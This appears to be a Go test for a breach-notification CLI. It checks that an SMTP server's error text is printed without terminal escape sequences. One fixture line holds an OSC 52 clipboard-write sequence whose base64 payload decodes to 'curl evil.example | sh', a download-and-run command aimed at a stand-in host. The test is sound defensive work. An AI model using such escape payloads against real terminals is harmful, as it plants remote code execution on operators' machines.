package main

import (
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/breachnotice/breachnotice/internal/breach"
	"github.com/breachnotice/breachnotice/internal/postgres"
)

// A delivery's error is the text of whatever server refused it — an SMTP server the customer
// may run themselves — and can hold terminal escape sequences (here OSC 52, which writes the
// operator's clipboard, and a colour change). `campaign recipient` prints it on the operator's
// terminal: every control character there is shown as a visible replacement, never sent.
func TestCLI_RecipientPrintsNoTerminalEscapesFromAServersError(t *testing.T) {
	id := createCampaign(t)
	for _, args := range [][]string{
		{"import", "--campaign", id, "../../examples/customers.csv"},
		{"campaign", "approve", id},
		{"campaign", "start", id},
	} {
		if _, stderr, err := cli(t, "", args...); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, stderr)
		}
	}
	ctx := t.Context()
	db, err := postgres.Open(ctx, dbURL)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for {
		p, err := db.PlanCampaign(ctx, id, 50_000)
		if err != nil {
			t.Fatal(err)
		}
		if p.Done {
			break
		}
	}
	worker := uuid.NewString()
	if err := db.RegisterWorker(ctx, worker, "test", 1); err != nil {
		t.Fatal(err)
	}
	claims, _, _, err := db.ClaimRange(ctx, id, breach.ChannelEmail, 0, 1<<40, worker, false)
	if err != nil {
		t.Fatal(err)
	}
	var outcomes []breach.Outcome
	for _, cl := range claims {
		if cl.Recipient.CustomerID == "AT-100001" {
			outcomes = append(outcomes, breach.Outcome{RecipientID: cl.Recipient.ID, State: breach.DeliveryFailed,
				Error: "550 5.1.1 \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[31mno such user\u009b0m"})
		}
	}
	if len(outcomes) != 1 {
		t.Fatalf("no claim for AT-100001 among %d", len(claims))
	}
	if _, err := db.Record(ctx, id, breach.ChannelEmail, worker, outcomes, false); err != nil {
		t.Fatal(err)
	}
	out, stderr, err := cli(t, "", "campaign", "recipient", id, "AT-100001")
	if err != nil {
		t.Fatalf("campaign recipient: %v\n%s", err, stderr)
	}
	if strings.ContainsAny(out, "\x1b\x07\u009b") {
		t.Errorf("the record printed terminal control characters:\n%q", out)
	}
	if !strings.Contains(out, "no such user") {
		t.Errorf("the record lost the error's text:\n%s", out)
	}
}
